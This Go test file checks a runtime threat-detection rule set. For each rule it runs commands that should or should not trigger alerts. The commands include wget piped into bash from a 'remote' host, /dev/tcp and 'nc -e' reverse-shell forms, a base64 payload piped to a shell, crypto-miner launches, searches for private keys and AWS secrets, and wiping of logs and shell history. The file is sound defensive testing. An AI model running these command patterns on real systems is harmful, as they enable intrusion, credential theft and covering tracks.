package live

import (
	"os"
	"os/exec"
	"testing"

	"golang.org/x/sys/unix"
)

// fromMemory runs busybox from an anonymous memory file.
func fromMemory(t *testing.T, _ *stage, mark string) (string, int) {
	t.Helper()
	fd, err := unix.MemfdCreate("tool", 0)
	if err != nil {
		t.Fatal(err)
	}
	file := os.NewFile(uintptr(fd), "memfd")
	defer file.Close()
	program, err := os.ReadFile(toolDir + "/busybox")
	if err != nil {
		t.Fatal(err)
	}
	if _, err := file.Write(program); err != nil {
		t.Fatal(err)
	}
	// In the child it is the first after the standard ones.
	cmd := exec.Command("/proc/self/fd/3")
	cmd.Args, cmd.Env, cmd.ExtraFiles = []string{"true"}, environment(mark), []*os.File{file}
	out, err := cmd.CombinedOutput()
	if err != nil {
		t.Fatalf("running a program from memory: %v\n%s", err, out)
	}
	return string(out), cmd.ProcessState.ExitCode()
}

const (
	download = "http://" + remote + "/install.sh"
	// encoded is "true" in Base64.
	encoded = "dHJ1ZQo="
)

func execBehaviours() []behaviour {
	return []behaviour{
		{
			rule: "Detect crypto miners using the Stratum protocol",
			raises: []step{
				host(toolDir + "/xmrig -o stratum+tcp://" + remote + ":3333 -u wallet"),
				host("/bin/true --url STRATUM+SSL://pool.invalid:443"),
				inside("/opt/tools/xmrig -o stratum2+tcp://pool.invalid:3333"),
			},
			misses: []step{
				host(toolDir + "/make --url https://pool.invalid"),
				host("grep -r stratum+tcp: /mnt/token").ending(1),
				host(toolDir + "/not-there -o stratum+tcp://pool.invalid:3333").ending(notThere),
				inside("/bin/echo stratum"),
			},
		},
		{
			rule:   "Program Run From Memory",
			raises: []step{{what: "run a program from memory", do: fromMemory}},
			misses: []step{host(toolDir + "/true"), host("bash -c 'exec -a true /proc/self/fd/3' 3<" + toolDir + "/true")},
		},
		{
			rule: "Program Run From Temporary Directory",
			raises: []step{
				host("/var/tmp/true"),
				host("cd /var/tmp; ./true"),
				host("ln -s /var/tmp/true /mnt/sync; /mnt/sync"),
				inside("/bin/cp /bin/busybox /tmp/true; /tmp/true", companion{"Executable Made In Container", "it was made before"}),
			},
			misses: []step{
				host("sh /var/tmp/script.sh"),
				host("/var/tmp/not-there").ending(notThere),
				host(toolDir + "/true /var/tmp/true"),
				inside("/opt/tools/true"),
			},
		},
		{
			rule: "Program In Temporary Directory Refused",
			raises: []step{
				host(noexec + "/tool").ending(refused),
				host("/var/tmp/script.sh").ending(refused),
				host("cd /var/tmp; ./script.sh").ending(refused),
			},
			misses: []step{
				host("/var/tmp/not-there").ending(notThere),
				host("cp /var/tmp/script.sh /mnt/script.sh; /mnt/script.sh").ending(refused),
				host("sh /var/tmp/script.sh"),
			},
		},
		{
			rule: "Reverse Shell Command",
			raises: []step{
				host("bash -c 'exec 3<>/dev/tcp/127.0.0.1/9'").ending(1),
				inside(`/bin/sh -c 'echo x >/dev/udp/127.0.0.1/9'`).ending(1),
			},
			misses: []step{
				host("grep -r /dev/tcp/ /mnt/token").ending(1),
				host("bash -c 'ls -d /dev/tcp'").ending(2),
			},
		},
		{
			rule: "Network Tool Told To Run A Shell",
			raises: []step{
				host(toolDir + "/nc 127.0.0.1 9 -e /bin/true").ending(1),
			},
			misses: []step{
				host(toolDir + "/nc 127.0.0.1 9").ending(1),
				host("sed -e s/a/b/ /dev/null"),
			},
		},
		{
			rule: "Encoded Script Run",
			raises: []step{
				host(`perl -e 'system(unpack("A*", "true"))'`),
				host("bash -c 'echo " + encoded + " | base64 -d | bash'"),
				inside("/bin/sh -c 'echo " + encoded + " | base64 -d | sh'"),
			},
			misses: []step{
				host("perl -e 'print 1'"),
				host("sh -c 'echo " + encoded + " | base64 -d >/dev/null'"),
				host("echo " + encoded + " | base64 -d | sh"),
			},
		},
		{
			rule: "Download Piped Into Shell",
			raises: []step{
				host("bash -c 'wget -qO- " + download + " | bash'"),
				inside("/bin/sh -c 'wget -qO- " + download + " | sh'"),
				host(`sh -c "$(echo 'eval "$(wget -qO- ` + download + `)"')"`),
			},
			misses: []step{
				host("sh -c 'wget -qO /dev/null " + download + "'"),
				host("wget -qO /dev/null " + download),
				host("sh -c 'echo true | sh'"),
			},
		},
		{
			rule: "Shell Started By Server Program",
			raises: []step{
				host(server + " -c 'sh -c :; :'"),
				host(server + " -c 'bash -c :; :'"),
			},
			misses: []step{
				host(server + " -c 'cat /dev/null; :'"),
				host("/mnt/redis-server -c 'sh -c :; :'"),
			},
		},
		{
			rule: "Search For Programs With Special Rights",
			raises: []step{
				host("find /mnt/token -perm -4000"),
				host("find /mnt/token -type f -perm /u=s"),
				inside("/bin/find /etc -perm -4000"),
			},
			misses: []step{host("find /mnt/token -perm -0644"), host("find /mnt/token -name 4000"), inside("/bin/find /etc")},
		},
		{
			rule: "Search For Private Keys Or Passwords",
			raises: []step{
				host("grep -r 'BEGIN RSA PRIVATE KEY' /mnt/token").ending(1),
				host("find /mnt/token -name 'id_rsa*'"),
				inside("/bin/grep -ri aws_secret_access_key /etc/hostname").ending(1),
			},
			misses: []step{host("grep -r 'BEGIN CERTIFICATE' /mnt/token").ending(1), host("find /mnt/token -name '*.crt'")},
		},
		{
			rule: "Shell History Removed",
			raises: []step{
				host("echo ls >/root/.zsh_history; rm -f /root/.zsh_history"),
				host("echo ls >/root/.zsh_history; cd /root; perl -e 'unlink q(.zsh_history) or die'"),
				host("echo ls >/root/.zsh_history; mv /root/.zsh_history /root/notes"),
				host("ln -s /dev/null /root/.ksh_history"),
				host("tee /root/.bash_history </dev/null"),
				host("truncate -s 0 /root/.bash_history"),
				host("echo 1 >/root/.python_history; shred /root/.python_history"),
				inside("echo ls >/root/.ash_history; /bin/rm /root/.ash_history"),
			},
			misses: []step{
				host("cat /root/.bash_history"),
				host("bash -c ': >/root/.bash_history'"),
				host("echo ls | tee -a /root/.bash_history"),
				host("rm -f /root/history"),
				host("rm -f /root/.zsh_history"), // it is not there
			},
		},
		{
			rule: "Security Log Cleared",
			raises: []step{
				host(": >/var/log/auth.log"),
				host("truncate -s 0 /var/log/auth.log"),
				host("mkdir -p /var/log/journal; rm -rf /var/log/journal"),
				host("cd /var/log; : >>secure; perl -e 'unlink q(secure) or die'"),
				host(": >>/var/log/cron.log; mv /var/log/cron.log /var/log/cron.old"),
				inside("/bin/cp /etc/hostname /var/log/wtmp"),
			},
			misses: []step{
				host("echo line >>/var/log/auth.log"),
				host("tail /var/log/auth.log"),
				host(": >/var/log/app.log"),
			},
		},
		{
			rule: "Kernel Module Tool Started",
			raises: []step{
				host(toolDir + "/insmod /mnt/not-there.ko").ending(254),
				inside("/opt/tools/modprobe not-there").ending(1),
				onTerminal(toolDir + "/modprobe not-there").ending(1),
			},
			misses: []step{host(toolDir + "/modprobe not-there").ending(1), host(toolDir + "/lsmod"), inside("/opt/tools/lsmod")},
		},
		{
			rule:   "Kernel Tracing Tool Started",
			raises: []step{host(toolDir + "/bpftool prog list"), inside("/opt/tools/bpftool prog list")},
			misses: []step{host(toolDir + "/bpftool version"), host("ls " + toolDir + "/bpftool")},
		},
		{
			rule:   "User Or Group Changed",
			raises: []step{host("useradd --no-create-home eve"), host("groupadd crew"), host("usermod -aG crew eve")},
			misses: []step{host("useradd -D"), host("id root")},
		},
	}
}
